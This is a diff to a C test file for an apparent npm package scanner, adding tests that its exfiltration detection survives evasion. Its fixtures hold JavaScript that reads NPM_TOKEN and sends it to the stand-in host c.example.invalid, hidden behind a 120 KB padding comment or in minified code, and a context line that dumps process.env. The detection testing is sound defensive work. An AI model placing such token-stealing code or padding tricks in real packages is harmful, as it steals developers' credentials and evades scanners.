@@ -28,9 +28,38 @@ static review_severity judge(const char *eco, const char *const *pairs, const ch
 	return w;
 }
 
+/* Evasions of the following of values (review): a long comment line that
+ * made the file look minified, and a real minified line. */
+static void check_untracked(void)
+{
+	sigma_buf padded = SIGMA_BUF_INIT;
+	sigma_buf_puts(&padded, "// ");
+	for (int i = 0; i < 20000; i++)
+		sigma_buf_puts(&padded, "lorem ");
+	sigma_buf_puts(&padded, "\nconst https = require('https');\nconst t = process.env.NPM_TOKEN;\n"
+	                        "https.request({ hostname: 'c.example.invalid' }).end(t);\n");
+	const char *padded_pkg[] = { "index.js", padded.ptr, NULL };
+	ok(judge("npm", padded_pkg, "exfiltration", NULL) == SEV_CRITICAL,
+	   "a 120 KB comment line does not make the file 'minified': the theft is still followed");
+	sigma_buf_dispose(&padded);
+	sigma_buf mini = SIGMA_BUF_INIT;
+	sigma_buf_puts(&mini, "var a=require('https'),b=process.env.NPM_TOKEN;");
+	for (int i = 0; i < 200; i++)
+		sigma_buf_printf(&mini, "function f%d(x){return x+%d}", i, i);
+	sigma_buf_puts(&mini, "a.request({hostname:'c.example.invalid'}).end(b);\n");
+	const char *mini_pkg[] = { "dist/index.js", mini.ptr, NULL };
+	ok(judge("npm", mini_pkg, "exfiltration", NULL) == SEV_CRITICAL ||
+	   judge("npm", mini_pkg, "flow-not-followed", NULL) == SEV_HIGH,
+	   "a minified file that reads a secret and calls the network is not cleared");
+	sigma_buf_dispose(&mini);
+	const char *mini_quiet[] = { "dist/q.js", "var a=require('https');a.get('https://c.example.invalid/x');\n", NULL };
+	ok(judge("npm", mini_quiet, "flow-not-followed", NULL) == SEV_CLEAR, "... while one with no secret is");
+}
+
 int main(void)
 {
 	int line = 0;
+	check_untracked();
 	/* Exfiltration. */
 	const char *env_dump[] = { "index.js", "const https = require('https');\n"
 	                                       "const data = JSON.stringify(process.env);\n"
